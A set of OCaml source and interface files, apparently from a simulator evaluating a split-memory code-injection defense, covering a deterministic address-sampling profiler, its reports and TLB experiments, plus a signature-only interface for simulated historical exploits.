  unit ->
  Kernel.Protection.t
(** Build the split-memory OS patch.

    Defaults: split every page ({!Policy.All_pages}, the paper's
    stand-alone mode), [Break] response, no execute-disable hardware.
    With [~nx:true], pages the policy does not split are protected by the
    execute-disable bit instead — the combined deployment of §4.2.1 used
    for the Fig. 9 experiment. *)
