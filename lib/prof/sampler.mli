(** The profiler's bounded sample ring: preallocated parallel int arrays,
    overwritten oldest-first when full, with deterministic every-Nth
    decimation — the countdown is per-sampler simulated state, never wall
    clock, so a run and its snapshot replay take identical samples. *)

type sample = {
  cycle : int;  (** cost-model cycle stamp at the sampled translation *)
  pid : int;  (** owning process (0 = before the first context switch) *)
  vpn : int;
  access : Hw.Mmu.access;
  tlb_hit : bool;
  split_page : bool;  (** the sampled page was split at sample time *)
}

type t

val create : ?capacity:int -> rate:int -> unit -> t
(** [capacity] (default 8192) bounds the ring; [rate] samples every Nth
    successful translation. @raise Invalid_argument unless both positive. *)

val rate : t -> int
val capacity : t -> int

val length : t -> int
(** Live samples in the ring. *)

val dropped : t -> int
(** Samples lost to ring wrap (oldest-first overwrite). *)

val seen : t -> int
(** Successful translations observed (sampled or not). *)

val taken : t -> int
(** Samples ever taken, [length + dropped]. *)

val tick : t -> bool
(** The decimation test: count one translation; [true] every [rate]-th
    call. Allocation-free. *)

val record :
  t -> cycle:int -> vpn:int -> access:Hw.Mmu.access -> tlb_hit:bool -> split:bool -> unit
(** Append a sample (owner = the sampler's current pid). Allocation-free. *)

val samples : t -> sample list
(** Live samples, oldest first. *)

(** {2 pid attribution} — the scheduler switch hook writes here *)

val set_pid : t -> int -> unit
val pid : t -> int
val access_code : Hw.Mmu.access -> int

(** {2 Snapshot state} *)

val export : t -> string
(** Complete sampler state as printable text (snapshot metadata value). *)

exception Corrupt_state of string

val import : string -> t
(** Rebuild a sampler from {!export} output; the clone's [samples],
    decimation phase and overwrite behaviour match the original exactly.
    @raise Corrupt_state on malformed input. *)
