(* Library interface: the sample ring (Sampler), the machine wiring
   (Profiler), report derivation (Analysis) and the profile-driven policy
   experiments (Experiments). The top level re-exports Profiler so
   [Prof.attach]/[Prof.samples]/[Prof.rearm] read like the obvious
   entry points. *)

module Sampler = Sampler
module Profiler = Profiler
module Analysis = Analysis
module Experiments = Experiments

include Profiler
