(* Deriving the profiler's reports from a sample list. Every function here
   is a pure fold over samples with deterministic (sorted) output order,
   so a report is byte-identical for identical sample streams — which is
   what lets the CI gate diff -j1 against -j4 and a run against its
   snapshot replay. *)

type wset_point = { window : int; win_pages : int; win_samples : int }
(* [window] is the absolute window index (cycle / window_size): anchoring
   windows to absolute cycle numbers, not to the first sample, keeps the
   curve identical whether the stream was collected in one run or across
   a checkpoint/restore. *)

type page_stat = {
  pg_pid : int;
  pg_vpn : int;
  pg_samples : int;
  pg_fetches : int;
  pg_hits : int;
  pg_split : bool;  (* split at any sampled point of its lifetime *)
  pg_first : int;
  pg_last : int;
}

let key pid vpn = (pid lsl 24) lor vpn

(* --- per-page statistics ------------------------------------------------- *)

let page_stats (samples : Sampler.sample list) =
  let tbl = Hashtbl.create 64 in
  List.iter
    (fun (s : Sampler.sample) ->
      let k = key s.pid s.vpn in
      match Hashtbl.find_opt tbl k with
      | None ->
        Hashtbl.add tbl k
          {
            pg_pid = s.pid;
            pg_vpn = s.vpn;
            pg_samples = 1;
            pg_fetches = (if s.access = Hw.Mmu.Fetch then 1 else 0);
            pg_hits = (if s.tlb_hit then 1 else 0);
            pg_split = s.split_page;
            pg_first = s.cycle;
            pg_last = s.cycle;
          }
      | Some st ->
        Hashtbl.replace tbl k
          {
            st with
            pg_samples = st.pg_samples + 1;
            pg_fetches = (st.pg_fetches + if s.access = Hw.Mmu.Fetch then 1 else 0);
            pg_hits = (st.pg_hits + if s.tlb_hit then 1 else 0);
            pg_split = st.pg_split || s.split_page;
            pg_last = s.cycle;
          })
    samples;
  Hashtbl.fold (fun _ st acc -> st :: acc) tbl []
  |> List.sort (fun a b -> compare (a.pg_pid, a.pg_vpn) (b.pg_pid, b.pg_vpn))

(* --- working set --------------------------------------------------------- *)

let working_set ~window_size (samples : Sampler.sample list) =
  if window_size <= 0 then invalid_arg "Analysis.working_set: window_size";
  let windows = Hashtbl.create 16 in
  List.iter
    (fun (s : Sampler.sample) ->
      let w = s.cycle / window_size in
      let pages, count =
        match Hashtbl.find_opt windows w with
        | Some pc -> pc
        | None ->
          let pc = (Hashtbl.create 16, ref 0) in
          Hashtbl.add windows w pc;
          pc
      in
      incr count;
      Hashtbl.replace pages (key s.pid s.vpn) ())
    samples;
  Hashtbl.fold
    (fun w (pages, count) acc ->
      { window = w; win_pages = Hashtbl.length pages; win_samples = !count } :: acc)
    windows []
  |> List.sort (fun a b -> compare a.window b.window)

(* --- ranking ------------------------------------------------------------- *)

let hot_pages ?(top = 10) samples =
  let ranked =
    List.sort
      (fun a b ->
        (* most-sampled first; pid/vpn break ties deterministically *)
        compare (-a.pg_samples, a.pg_pid, a.pg_vpn) (-b.pg_samples, b.pg_pid, b.pg_vpn))
      (page_stats samples)
  in
  List.filteri (fun i _ -> i < top) ranked

let hot_split_pages ?(top = 10) samples =
  let ranked =
    List.filter (fun st -> st.pg_split) (page_stats samples)
    |> List.sort (fun a b ->
           compare (-a.pg_samples, a.pg_pid, a.pg_vpn) (-b.pg_samples, b.pg_pid, b.pg_vpn))
  in
  List.filteri (fun i _ -> i < top) ranked

(* --- heatmap grid -------------------------------------------------------- *)

(* One row per pid, [buckets] columns spanning the sampled vpn range. *)
let heatmap_grid ?(buckets = 64) (samples : Sampler.sample list) =
  match samples with
  | [] -> ([], 0, 0, 1)
  | first :: _ ->
    let lo = ref first.Sampler.vpn and hi = ref first.Sampler.vpn in
    List.iter
      (fun (s : Sampler.sample) ->
        if s.vpn < !lo then lo := s.vpn;
        if s.vpn > !hi then hi := s.vpn)
      samples;
    let span = !hi - !lo + 1 in
    let buckets = min buckets span in
    let per_bucket = (span + buckets - 1) / buckets in
    let rows = Hashtbl.create 8 in
    List.iter
      (fun (s : Sampler.sample) ->
        let cells =
          match Hashtbl.find_opt rows s.pid with
          | Some cells -> cells
          | None ->
            let cells = Array.make buckets 0 in
            Hashtbl.add rows s.pid cells;
            cells
        in
        let b = (s.vpn - !lo) / per_bucket in
        cells.(b) <- cells.(b) + 1)
      samples;
    let rows =
      Hashtbl.fold (fun pid cells acc -> (pid, cells) :: acc) rows []
      |> List.sort (fun (a, _) (b, _) -> compare a b)
    in
    (rows, !lo, !hi, per_bucket)

(* --- rendering ----------------------------------------------------------- *)

let summary_line (samples : Sampler.sample list) sampler =
  let n = List.length samples in
  let hits = List.length (List.filter (fun (s : Sampler.sample) -> s.tlb_hit) samples) in
  let split = List.length (List.filter (fun (s : Sampler.sample) -> s.split_page) samples) in
  Fmt.str
    "profile: rate=1/%d translations=%d samples=%d (dropped %d) sampled-hit=%s split=%s\n"
    (Sampler.rate sampler) (Sampler.seen sampler) n (Sampler.dropped sampler)
    (Report.percent_opt
       (if n = 0 then None else Some (float_of_int hits /. float_of_int n)))
    (Report.percent_opt
       (if n = 0 then None else Some (float_of_int split /. float_of_int n)))

let render_working_set ?(window_size = 200_000) samples =
  let points = working_set ~window_size samples in
  let rows =
    List.map
      (fun p ->
        [
          string_of_int (p.window * window_size);
          string_of_int p.win_pages;
          string_of_int p.win_samples;
        ])
      points
  in
  Report.table
    ~title:(Fmt.str "working set (unique sampled pages per %d-cycle window)" window_size)
    ~header:[ "window_start"; "pages"; "samples" ]
    rows

let render_persistence ?(top = 12) samples =
  let pages =
    List.sort
      (fun a b ->
        compare
          (-(a.pg_last - a.pg_first), a.pg_pid, a.pg_vpn)
          (-(b.pg_last - b.pg_first), b.pg_pid, b.pg_vpn))
      (page_stats samples)
  in
  let pages = List.filteri (fun i _ -> i < top) pages in
  let rows =
    List.map
      (fun st ->
        [
          string_of_int st.pg_pid;
          Fmt.str "0x%05x" st.pg_vpn;
          string_of_int st.pg_first;
          string_of_int st.pg_last;
          string_of_int (st.pg_last - st.pg_first);
          string_of_int st.pg_samples;
          (if st.pg_split then "yes" else "no");
        ])
      pages
  in
  Report.table
    ~title:"page persistence (longest-resident sampled pages)"
    ~header:[ "pid"; "vpn"; "first"; "last"; "span"; "samples"; "split" ]
    rows

let render_hot ?(top = 10) samples =
  let rows =
    List.map
      (fun st ->
        [
          string_of_int st.pg_pid;
          Fmt.str "0x%05x" st.pg_vpn;
          string_of_int st.pg_samples;
          string_of_int st.pg_fetches;
          Report.percent_opt
            (if st.pg_samples = 0 then None
             else Some (float_of_int st.pg_hits /. float_of_int st.pg_samples));
          (if st.pg_split then "yes" else "no");
        ])
      (hot_pages ~top samples)
  in
  Report.table ~title:"hot pages (by sample count)"
    ~header:[ "pid"; "vpn"; "samples"; "fetches"; "tlb-hit"; "split" ]
    rows

let render_heatmap ?buckets samples =
  let rows, lo, hi, per_bucket = heatmap_grid ?buckets samples in
  match rows with
  | [] -> "heatmap: no samples\n"
  | _ ->
    Report.heatmap
      ~title:
        (Fmt.str "pid x vpn heatmap (vpn 0x%05x..0x%05x, %d page(s)/column)" lo hi
           per_bucket)
      ~xlabel:(Fmt.str "vpn ->")
      ~rows:(List.map (fun (pid, cells) -> (Fmt.str "pid %d" pid, cells)) rows)

let csv_heatmap ?buckets samples =
  let rows, lo, _, per_bucket = heatmap_grid ?buckets samples in
  let body =
    List.concat_map
      (fun (pid, cells) ->
        List.filter_map
          (fun i ->
            if cells.(i) = 0 then None
            else
              Some
                [
                  string_of_int pid;
                  string_of_int (lo + (i * per_bucket));
                  string_of_int (lo + ((i + 1) * per_bucket) - 1);
                  string_of_int cells.(i);
                ])
          (List.init (Array.length cells) Fun.id))
      rows
  in
  Report.csv ~header:[ "pid"; "vpn_lo"; "vpn_hi"; "samples" ] body
