(** Reports derived from a profiler sample stream. Pure folds with sorted
    output, so identical streams render byte-identically — the property
    the -j1/-j4 and replay CI diffs rely on. *)

type wset_point = {
  window : int;  (** absolute window index, [cycle / window_size] *)
  win_pages : int;  (** distinct (pid, vpn) sampled in the window *)
  win_samples : int;
}

type page_stat = {
  pg_pid : int;
  pg_vpn : int;
  pg_samples : int;
  pg_fetches : int;
  pg_hits : int;
  pg_split : bool;  (** split at any sampled point *)
  pg_first : int;  (** cycle of first sample *)
  pg_last : int;  (** cycle of last sample *)
}

val page_stats : Sampler.sample list -> page_stat list
(** Per-(pid, vpn) aggregation, sorted by (pid, vpn). *)

val working_set : window_size:int -> Sampler.sample list -> wset_point list
(** Unique sampled pages per absolute cycle window, sorted by window.
    Anchoring to absolute windows keeps the curve identical across a
    checkpoint/restore boundary. *)

val hot_pages : ?top:int -> Sampler.sample list -> page_stat list
(** Top pages by sample count (ties broken by pid, vpn). Default top 10. *)

val hot_split_pages : ?top:int -> Sampler.sample list -> page_stat list
(** {!hot_pages} restricted to split pages — the ranking that tells the
    split-page machinery where its service effort lands. *)

val heatmap_grid :
  ?buckets:int -> Sampler.sample list -> (int * int array) list * int * int * int
(** [(rows, vpn_lo, vpn_hi, pages_per_bucket)]: one [(pid, cells)] row per
    pid (sorted), [buckets] columns (default 64) spanning the sampled vpn
    range. *)

(** {2 Rendering} *)

val summary_line : Sampler.sample list -> Sampler.t -> string
val render_working_set : ?window_size:int -> Sampler.sample list -> string
(** Fig-style table; [window_size] default 200k cycles. *)

val render_persistence : ?top:int -> Sampler.sample list -> string
(** Longest-resident pages (by sampled lifetime span). *)

val render_hot : ?top:int -> Sampler.sample list -> string
val render_heatmap : ?buckets:int -> Sampler.sample list -> string
(** ASCII pid x vpn intensity grid. *)

val csv_heatmap : ?buckets:int -> Sampler.sample list -> string
(** The heatmap as CSV ([pid,vpn_lo,vpn_hi,samples], zero cells elided). *)
