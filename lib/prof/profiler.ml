(* Wiring the sample ring into a machine: the MMU's sample hook feeds the
   ring, the scheduler's switch hook keeps pid attribution current, and
   the whole sampler state rides in snapshot metadata so a restored
   machine resumes sampling bit-for-bit where the original would have.

   Overhead discipline mirrors lib/obs: a machine with no profiler
   attached pays one [None] branch per translation and stays on the
   allocation-free MMU fast path; an attached profiler pays a closure
   call per translation and a few int stores per sampled one. *)

type t = {
  sampler : Sampler.t;
  os : Kernel.Os.t;
  mutable cur_aspace : Kernel.Aspace.t option;
}

let sampler t = t.sampler
let samples t = Sampler.samples t.sampler

let set_current t (p : Kernel.Proc.t) =
  Sampler.set_pid t.sampler p.pid;
  t.cur_aspace <- Some p.aspace

(* Classify the sampled page at sample time (not at report time: the
   process may be gone by then). Runs only on sampled translations, so
   the option boxes here are off the unsampled path. *)
let split_now t vpn =
  match t.cur_aspace with
  | None -> false
  | Some aspace -> (
    match Kernel.Aspace.pte aspace vpn with
    | Some pte -> Kernel.Pte.is_split pte
    | None -> false)

let install t =
  let os = t.os in
  let s = t.sampler in
  (* seed attribution: the switch hook only fires when the running pid
     *changes*, so a profiler attached (or rearmed) mid-run must pick up
     the incumbent itself *)
  (match Kernel.Os.last_running os with
  | Some pid -> (
    Sampler.set_pid s pid;
    match Kernel.Os.proc os pid with
    | Some p -> t.cur_aspace <- Some p.aspace
    | None -> ())
  | None -> ());
  Kernel.Os.set_switch_hook os (Some (fun p -> set_current t p));
  let cost = Kernel.Os.cost os in
  (Kernel.Os.env os).Hw.Exec_env.sample <-
    Some
      (fun access vpn tlb_hit ->
        if Sampler.tick s then
          Sampler.record s ~cycle:cost.Hw.Cost.cycles ~vpn ~access ~tlb_hit
            ~split:(split_now t vpn));
  let obs = Kernel.Os.obs os in
  if Obs.enabled obs then begin
    Obs.event obs ~cat:"prof" "prof.attach"
      ~args:[ ("rate", Obs.Json.Int (Sampler.rate s)) ];
    Obs.add_snapshot_hook obs (fun () ->
        let reg = Obs.metrics obs in
        let set name v =
          Obs.Metrics.set_gauge (Obs.Metrics.gauge reg name) (float_of_int v)
        in
        set "prof.rate" (Sampler.rate s);
        set "prof.samples" (Sampler.length s);
        set "prof.dropped" (Sampler.dropped s);
        set "prof.taken" (Sampler.taken s);
        set "prof.translations" (Sampler.seen s))
  end

let attach ?(rate = 64) ?capacity os =
  let t = { sampler = Sampler.create ?capacity ~rate (); os; cur_aspace = None } in
  install t;
  t

let detach t =
  (Kernel.Os.env t.os).Hw.Exec_env.sample <- None;
  Kernel.Os.set_switch_hook t.os None

(* --- snapshot integration ------------------------------------------------ *)

let meta_state_key = "prof.state"

let meta t = [ (meta_state_key, Sampler.export t.sampler) ]

let checkpoint ?(meta = []) t =
  Snap.Snapshot.checkpoint ~meta:(meta @ [ (meta_state_key, Sampler.export t.sampler) ]) t.os

let rearm os snap =
  match Snap.Snapshot.find_meta snap meta_state_key with
  | None -> None
  | Some state ->
    let t = { sampler = Sampler.import state; os; cur_aspace = None } in
    install t;
    Some t
