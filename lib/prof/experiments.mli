(** Profile-driven policy experiments, fleet-fanned with submission-order
    merging (byte-identical output at any [jobs]). *)

type sweep_row = {
  sw_capacity : int;
  sw_policy : Hw.Tlb.policy;
  sw_cycles : int;
  sw_itlb_hit : float option;
  sw_dtlb_hit : float option;
  sw_sampled_hit : float option;  (** tlb_hit fraction of the sample stream *)
  sw_pages : int;  (** distinct sampled (pid, vpn) pairs *)
}

val tlb_sweep :
  ?jobs:int ->
  ?capacities:int list ->
  ?policies:Hw.Tlb.policy list ->
  ?rate:int ->
  ?defense:Defense.t ->
  unit ->
  sweep_row list
(** TLB capacity x eviction-policy grid on the tlb_walker hot/cold page
    walk (the streaming workloads have no reuse and are flat in both
    axes), one profiled machine per cell. Defaults: capacities [2..64],
    both policies, rate 64, stand-alone split memory. *)

val render_tlb_sweep : sweep_row list -> string
(** Fig-style table of {!tlb_sweep} rows. *)

val hot_page_ranking :
  ?jobs:int -> ?rate:int -> ?top:int -> ?defense:Defense.t -> unit -> string
(** Fig-style table ranking the hottest {e split} pages per workload
    (apache-shape and pipe-ctxsw) — the candidate pin set for a
    split-page cache. *)
