(* Profile-driven policy experiments: the point of collecting samples in
   the first place. Each experiment fans a grid of independent machines
   over the fleet (submission-order results, so the rendered tables are
   byte-identical at any -j), attaches a profiler to every machine, and
   reports both the machine-level counters and what the sample stream
   says about them. *)

(* Small apache-shape pair: the same server/client workload simctl's
   apache32k scenario uses, scaled down so a full sweep stays fast. *)
let apache_spec ~defense =
  Workload.Figures.apache_spec ~defense ~size:(32 * 1024) ~requests:3

type sweep_row = {
  sw_capacity : int;
  sw_policy : Hw.Tlb.policy;
  sw_cycles : int;
  sw_itlb_hit : float option;
  sw_dtlb_hit : float option;
  sw_sampled_hit : float option;
  sw_pages : int;  (* distinct sampled (pid, vpn) *)
}

let run_profiled ~rate (spec : Workload.Harness.spec) =
  let prof = ref None in
  let _result, os =
    Workload.Harness.run_k ~tune:(fun k -> prof := Some (Profiler.attach ~rate k)) spec
  in
  (os, Option.get !prof)

(* TLB capacity x replacement-policy sweep. The subject is the tlb_walker
   guest — a hot/cold page walk whose reuse distance exceeds small TLBs —
   because the paper's streaming workloads have no reuse beyond the
   current page and are flat in both capacity and policy. The paper's
   Fig. 6 aggregates say split memory costs what it costs; this says
   where the TLB budget should go: how much capacity (and which victim
   choice) the sampled working set actually needs. *)
let walker_spec ~defense =
  Workload.Harness.single ~defense (Workload.Guests.tlb_walker ~rounds:400 ())

let tlb_sweep ?jobs ?(capacities = [ 2; 4; 8; 16; 64 ])
    ?(policies = [ Hw.Tlb.Fifo; Hw.Tlb.Lru ]) ?(rate = 64)
    ?(defense = Defense.split_standalone) () =
  let grid =
    List.concat_map (fun cap -> List.map (fun pol -> (cap, pol)) policies) capacities
  in
  let job (cap, pol) =
    let spec =
      {
        (walker_spec ~defense) with
        Workload.Harness.label = Fmt.str "tlb-%d-%s" cap (Hw.Tlb.policy_name pol);
        itlb_capacity = Some cap;
        dtlb_capacity = Some cap;
        tlb_policy = Some pol;
      }
    in
    let os, prof = run_profiled ~rate spec in
    let mmu = Kernel.Os.mmu os in
    let samples = Profiler.samples prof in
    let n = List.length samples in
    let hits =
      List.length (List.filter (fun (s : Sampler.sample) -> s.tlb_hit) samples)
    in
    {
      sw_capacity = cap;
      sw_policy = pol;
      sw_cycles = (Kernel.Os.cost os).Hw.Cost.cycles;
      sw_itlb_hit = Hw.Tlb.hit_rate_opt (Hw.Mmu.itlb mmu);
      sw_dtlb_hit = Hw.Tlb.hit_rate_opt (Hw.Mmu.dtlb mmu);
      sw_sampled_hit =
        (if n = 0 then None else Some (float_of_int hits /. float_of_int n));
      sw_pages = List.length (Analysis.page_stats samples);
    }
  in
  let results =
    Fleet.map ?jobs
      ~label:(fun (cap, pol) -> Fmt.str "tlb-%d-%s" cap (Hw.Tlb.policy_name pol))
      job grid
  in
  List.filter_map (function Ok r -> Some r | Error (_ : Fleet.error) -> None) results

(* Two decimals here: the interesting capacity effects are fractions of a
   percent of dtlb hit rate, invisible at Report.percent's %.0f. *)
let pct2 = function None -> "-" | Some v -> Fmt.str "%.2f%%" (v *. 100.)

let render_tlb_sweep rows =
  Report.table
    ~title:"TLB capacity x eviction policy (hot/cold page walk, 12-page reuse set)"
    ~header:
      [ "capacity"; "policy"; "cycles"; "itlb-hit"; "dtlb-hit"; "sampled-hit"; "pages" ]
    (List.map
       (fun r ->
         [
           string_of_int r.sw_capacity;
           Hw.Tlb.policy_name r.sw_policy;
           string_of_int r.sw_cycles;
           pct2 r.sw_itlb_hit;
           pct2 r.sw_dtlb_hit;
           pct2 r.sw_sampled_hit;
           string_of_int r.sw_pages;
         ])
       rows)

(* Hot-page ranking for the split-page machinery: which (pid, page) pairs
   the split defense actually spends its faults on, per workload — the
   candidate pin set for any split-page cache. One fleet job per
   workload; render order = submission order. *)
let hot_page_ranking ?jobs ?(rate = 64) ?(top = 8)
    ?(defense = Defense.split_standalone) () =
  let specs =
    [
      ("apache", apache_spec ~defense);
      ("ctxsw", Workload.Figures.ctxsw_spec ~defense ~iters:40);
    ]
  in
  let job (name, spec) =
    let _os, prof = run_profiled ~rate spec in
    let samples = Profiler.samples prof in
    let rows =
      List.map
        (fun (st : Analysis.page_stat) ->
          [
            name;
            string_of_int st.pg_pid;
            Fmt.str "0x%05x" st.pg_vpn;
            string_of_int st.pg_samples;
            string_of_int st.pg_fetches;
            Report.percent_opt
              (if st.pg_samples = 0 then None
               else Some (float_of_int st.pg_hits /. float_of_int st.pg_samples));
          ])
        (Analysis.hot_split_pages ~top samples)
    in
    rows
  in
  let results = Fleet.map ?jobs ~label:fst job specs in
  let rows =
    List.concat_map (function Ok r -> r | Error (_ : Fleet.error) -> []) results
  in
  Report.table
    ~title:(Fmt.str "hot split pages (defense=%s, top %d per workload)"
              (Defense.name defense) top)
    ~header:[ "workload"; "pid"; "vpn"; "samples"; "fetches"; "tlb-hit" ]
    rows
