(* The bounded sample ring behind the profiler: two parallel int arrays
   (cycle stamp + packed metadata), preallocated at creation, overwritten
   oldest-first when full. Everything the per-translation hook touches is
   an int array slot or a mutable int field, so an armed sampler costs a
   handful of stores per *sampled* translation and a decrement-and-test
   per unsampled one — and never a heap allocation.

   Decimation is a deterministic per-sampler countdown (every [rate]-th
   successful translation), not wall clock, so two runs of the same
   machine — or a run and its replay from a snapshot — take exactly the
   same samples. *)

type sample = {
  cycle : int;
  pid : int;
  vpn : int;
  access : Hw.Mmu.access;
  tlb_hit : bool;
  split_page : bool;
}

type t = {
  rate : int;
  cap : int;
  cycles : int array;
  meta : int array;
  mutable head : int;  (* next write slot *)
  mutable len : int;  (* live samples, <= cap *)
  mutable dropped : int;  (* samples overwritten by ring wrap *)
  mutable countdown : int;  (* translations until the next sample *)
  mutable seen : int;  (* successful translations observed *)
  mutable taken : int;  (* samples ever taken (live + dropped) *)
  mutable cur_pid : int;  (* owner of current translations; 0 = unknown *)
}

let create ?(capacity = 8192) ~rate () =
  if rate <= 0 then invalid_arg "Sampler.create: rate must be positive";
  if capacity <= 0 then invalid_arg "Sampler.create: capacity must be positive";
  {
    rate;
    cap = capacity;
    cycles = Array.make capacity 0;
    meta = Array.make capacity 0;
    head = 0;
    len = 0;
    dropped = 0;
    countdown = rate;
    seen = 0;
    taken = 0;
    cur_pid = 0;
  }

let rate t = t.rate
let capacity t = t.cap
let length t = t.len
let dropped t = t.dropped
let seen t = t.seen
let taken t = t.taken
let set_pid t pid = t.cur_pid <- pid
let pid t = t.cur_pid

(* Packed metadata layout (OCaml ints are 63-bit):
   bits 0..23   vpn   (32-bit vaddrs / 4K pages need 20)
   bits 24..39  pid   (16 bits)
   bits 40..41  access (0 fetch, 1 read, 2 write)
   bit  42      tlb_hit
   bit  43      split_page *)

let access_code : Hw.Mmu.access -> int = function
  | Hw.Mmu.Fetch -> 0
  | Hw.Mmu.Read -> 1
  | Hw.Mmu.Write -> 2

let access_of_code = function
  | 0 -> Hw.Mmu.Fetch
  | 1 -> Hw.Mmu.Read
  | _ -> Hw.Mmu.Write

let pack ~pid ~vpn ~access ~tlb_hit ~split =
  vpn land 0xFFFFFF
  lor ((pid land 0xFFFF) lsl 24)
  lor (access_code access lsl 40)
  lor ((if tlb_hit then 1 else 0) lsl 42)
  lor ((if split then 1 else 0) lsl 43)

let unpack cycle m =
  {
    cycle;
    vpn = m land 0xFFFFFF;
    pid = (m lsr 24) land 0xFFFF;
    access = access_of_code ((m lsr 40) land 3);
    tlb_hit = (m lsr 42) land 1 = 1;
    split_page = (m lsr 43) land 1 = 1;
  }

(* The per-translation decimation test: true on every [rate]-th call. *)
let tick t =
  t.seen <- t.seen + 1;
  t.countdown <- t.countdown - 1;
  if t.countdown = 0 then begin
    t.countdown <- t.rate;
    true
  end
  else false

let record t ~cycle ~vpn ~access ~tlb_hit ~split =
  let idx = t.head in
  t.cycles.(idx) <- cycle;
  t.meta.(idx) <- pack ~pid:t.cur_pid ~vpn ~access ~tlb_hit ~split;
  t.head <- (idx + 1) mod t.cap;
  if t.len = t.cap then t.dropped <- t.dropped + 1 else t.len <- t.len + 1;
  t.taken <- t.taken + 1

(* Live samples, oldest first. *)
let samples t =
  List.init t.len (fun i ->
      let idx = (t.head - t.len + i + t.cap) mod t.cap in
      unpack t.cycles.(idx) t.meta.(idx))

(* --- snapshot state ------------------------------------------------------ *)

(* Text export: header counters, then the live (cycle, meta) pairs oldest
   first. Import rebuilds the ring with head = len mod cap — a rotation of
   the original layout, which is invisible to [samples] and to all future
   overwrite behaviour, so a rearmed sampler replays bit-identically. *)
let export t =
  let buf = Buffer.create (32 + (t.len * 12)) in
  Buffer.add_string buf
    (Printf.sprintf "%d %d %d %d %d %d %d" t.rate t.cap t.len t.dropped t.countdown
       t.seen t.taken);
  Buffer.add_string buf (Printf.sprintf " %d" t.cur_pid);
  for i = 0 to t.len - 1 do
    let idx = (t.head - t.len + i + t.cap) mod t.cap in
    Buffer.add_string buf (Printf.sprintf " %d %d" t.cycles.(idx) t.meta.(idx))
  done;
  Buffer.contents buf

exception Corrupt_state of string

let import s =
  let fail msg = raise (Corrupt_state ("Sampler.import: " ^ msg)) in
  let words =
    String.split_on_char ' ' (String.trim s)
    |> List.filter (fun w -> w <> "")
    |> List.map (fun w ->
           match int_of_string_opt w with Some n -> n | None -> fail ("bad int " ^ w))
  in
  match words with
  | rate :: cap :: len :: dropped :: countdown :: seen :: taken :: cur_pid :: rest ->
    if rate <= 0 || cap <= 0 || len < 0 || len > cap then fail "bad header";
    if List.length rest <> 2 * len then fail "sample count mismatch";
    let t = create ~capacity:cap ~rate () in
    t.len <- len;
    t.head <- len mod cap;
    t.dropped <- dropped;
    t.countdown <- countdown;
    t.seen <- seen;
    t.taken <- taken;
    t.cur_pid <- cur_pid;
    let rec fill i = function
      | [] -> ()
      | cycle :: meta :: rest ->
        t.cycles.(i) <- cycle;
        t.meta.(i) <- meta;
        fill (i + 1) rest
      | [ _ ] -> fail "odd sample list"
    in
    fill 0 rest;
    t
  | _ -> fail "truncated header"
