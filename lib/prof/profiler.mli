(** Address-sampling profiler (the PEBS-style workflow, in-simulator).

    {!attach} threads a {!Sampler} through a machine's MMU translation
    path: every [rate]-th successful translation records
    [{cycle; pid; vpn; access; tlb_hit; split_page}] into a bounded ring.
    Decimation is driven by a deterministic per-machine counter, so runs
    are reproducible and snapshot replays sample identically; pid
    attribution comes from the scheduler's context-switch hook.

    Overhead follows the [lib/obs] discipline: with no profiler attached
    the MMU pays one branch per translation and stays allocation-free
    (the CI alloc gate runs in this configuration); attached, each
    translation costs a closure call and each {e sampled} translation a
    few int stores. When the machine's obs sink is live, the profiler
    also exports [prof.*] gauges (rate, samples, dropped, taken,
    translations) into metrics snapshots. *)

type t

val attach : ?rate:int -> ?capacity:int -> Kernel.Os.t -> t
(** Install the sampler on the machine ([rate] default 64, [capacity]
    default 8192). Replaces any previously attached profiler's hooks. *)

val detach : t -> unit
(** Remove the MMU sample hook and the scheduler switch hook, returning
    the machine to the zero-overhead configuration. The collected samples
    remain readable. *)

val sampler : t -> Sampler.t
val samples : t -> Sampler.sample list
(** Live samples, oldest first. *)

(** {2 Snapshot integration}

    Sampler state (ring contents, decimation phase, counters, pid
    attribution) rides in snapshot metadata under {!meta_state_key}, the
    same extension mechanism lib/inject uses — the binary snapshot format
    is untouched. *)

val meta_state_key : string

val meta : t -> (string * string) list
(** The metadata pairs to pass to [Snap.Snapshot.checkpoint ~meta]. *)

val checkpoint : ?meta:(string * string) list -> t -> Snap.Snapshot.t
(** [Snap.Snapshot.checkpoint] of the profiled machine with the sampler
    state appended to [meta]. *)

val rearm : Kernel.Os.t -> Snap.Snapshot.t -> t option
(** After [Snap.Snapshot.restore os snap], rebuild the profiler from the
    snapshot's sampler state and reinstall its hooks on [os]; [None] if
    the snapshot carries no profiler state. The rearmed profiler's future
    samples are bit-identical to the original run's. *)
