(** Address-sampling profiler threaded through the MMU translation path
    (DESIGN.md §11): deterministic every-Nth sampling into a bounded
    ring, working-set/persistence/heatmap reports, and profile-driven
    TLB policy experiments.

    [Prof.attach os] is the entry point; the submodules are the layers:
    {!Sampler} (the ring), {!Profiler} (machine wiring + snapshot
    integration), {!Analysis} (reports), {!Experiments} (fleet-fanned
    policy sweeps). *)

module Sampler = Sampler
module Profiler = Profiler
module Analysis = Analysis
module Experiments = Experiments

include module type of Profiler with type t = Profiler.t
