(** The five real-world vulnerabilities of the paper's Table 2, rebuilt as
    guest servers with the same vulnerability classes, attacked by exploits
    with the same structure (info leaks, unchecked length fields,
    ASCII-translation expansion, brute-forced stack addresses, two-stage
    payloads). *)

type id = Apache_ssl | Bind | Proftpd | Samba | Wuftpd

val all : id list

type info = {
  package : string;
  version : string;
  vuln : string;
  exploit : string;  (** the historical exploit being modelled *)
  injection : string;  (** where the shellcode lands *)
  unprotected_result : string;
}

val info : id -> info
val victim : id -> Kernel.Image.t

val run : ?defense:Defense.t -> ?obs:Obs.t -> id -> Runner.outcome
(** Run the attack end-to-end under a defense. [obs] threads a live
    trace/metrics sink into every kernel the exploit spawns. *)

val run_session :
  ?defense:Defense.t ->
  ?obs:Obs.t ->
  ?tune:(Kernel.Os.t -> unit) ->
  id ->
  Runner.outcome * Runner.session option
(** Like {!run}, but also returns the final kernel session so callers can
    render the machine state (cost model, TLB statistics). [None] only for
    a Samba brute-force that exhausted its attempts. [tune] is applied to
    every kernel the exploit spawns, before it runs (see {!Runner.start}). *)

val run_apache : ?defense:Defense.t -> ?obs:Obs.t -> unit -> Runner.outcome
val run_bind : ?defense:Defense.t -> ?obs:Obs.t -> unit -> Runner.outcome
val run_proftpd : ?defense:Defense.t -> ?obs:Obs.t -> unit -> Runner.outcome

type samba_result = {
  outcome : Runner.outcome;
  attempts : int;
  detections : int;
  last : Runner.session option;  (** the decisive attempt's session *)
}

val run_samba :
  ?defense:Defense.t ->
  ?obs:Obs.t ->
  ?tune:(Kernel.Os.t -> unit) ->
  ?max_attempts:int ->
